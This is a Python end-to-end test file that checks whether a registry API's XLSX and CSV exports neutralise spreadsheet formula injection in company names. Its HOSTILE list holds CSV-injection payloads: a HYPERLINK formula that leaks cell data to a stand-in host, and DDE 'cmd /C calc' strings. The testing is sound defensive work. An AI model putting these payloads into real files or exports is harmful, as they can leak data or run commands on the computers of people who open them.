"""Issue 16, finding 2 (ADR 0101): names a province may register that a spreadsheet program would
run as formulas — `=HYPERLINK(…)`, `=cmd|…`, `+…`, `-…`, `@…` — are written by every XLSX export
as text cells (no cell of a formula type anywhere) and by the CSV export behind a single quote.
The XLSX routes are found in the app itself, so a new export is covered when it is added."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from audit.workbook import append
from domain.texts import FORMULA_STARTS, csv_safe
from tests.e2e.http.live import LiveApi, live_api
from tests.e2e.http.world import JIANGSU, listed_factories

pytestmark = pytest.mark.e2e

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1示例有限公司",
]

#: Each workbook route, with the query that gives it something to show.
QUERIES: dict[str, dict[str, str]] = {
    "/v1/exports/list.xlsx": {"as_of": "2023-06-30"},
    "/v1/changes.xlsx": {"from": "2023-01-01", "to": "2023-06-30"},
    "/v1/templates/filings.xlsx": {"report_year": "2023"},
    "/v1/exports/filings.xlsx": {"report_year": "2023"},
    "/v1/exports/dynamic-management.xlsx": {"report_year": "2023"},
    "/v1/exports/nominations.xlsx": {"batch_year": "2022"},
    "/v1/green-codes.xlsx": {"report_year": "2023"},
}
#: Workbooks that list no unit of this ledger (the nominations were published, no grades given).
WITHOUT_THE_NAMES = {"/v1/exports/nominations.xlsx", "/v1/green-codes.xlsx"}


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveApi]:
    url = f"sqlite:///{tmp_path_factory.mktemp('exports') / 'ledger.db'}"
    with live_api(url) as served:
        listed_factories(served.ministry(), served.province(JIANGSU), HOSTILE)
        yield served


def workbook_routes(api: LiveApi) -> set[str]:
    """Every workbook the API serves (the audit file, by report id, is tested below)."""
    paths: dict[str, dict[str, Any]] = api.app.openapi()["paths"]
    return {p for p, ops in paths.items() if p.endswith((".xlsx", ".csv")) and "get" in ops}


def test_every_spreadsheet_route_is_exercised(api: LiveApi) -> None:
    served = {p for p in workbook_routes(api) if "{report_id}" not in p}
    assert served == {*QUERIES, "/v1/exports/list.csv"}


@pytest.mark.parametrize("path", sorted(QUERIES))
def test_no_workbook_holds_a_formula_and_the_names_read_as_written(api: LiveApi, path: str) -> None:
    province = api.province(JIANGSU)
    query = QUERIES[path]

    response = province.get(path, **query)

    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    if path not in WITHOUT_THE_NAMES:
        assert set(HOSTILE) <= set(texts), path


def test_the_csv_export_neutralises_every_formula_start(api: LiveApi) -> None:
    response = api.province(JIANGSU).get("/v1/exports/list.csv", as_of="2023-06-30")

    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert {"'" + name for name in HOSTILE} <= set(cells)


def test_csv_safe_quotes_each_formula_start_and_nothing_else() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(f"{start}1") == f"'{start}1"
    assert csv_safe("江苏示例有限公司") == "江苏示例有限公司"
    assert csv_safe("") == ""


def test_the_audit_file_writes_every_text_as_text() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("决定 Decisions")
    append(sheet, [*HOSTILE, "#N/A", 3])
    buffer = io.BytesIO()
    book.save(buffer)

    row: Any = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
    assert [cell.data_type for cell in row] == ["s"] * (len(HOSTILE) + 1) + ["n"]
    assert [cell.value for cell in row][: len(HOSTILE)] == HOSTILE
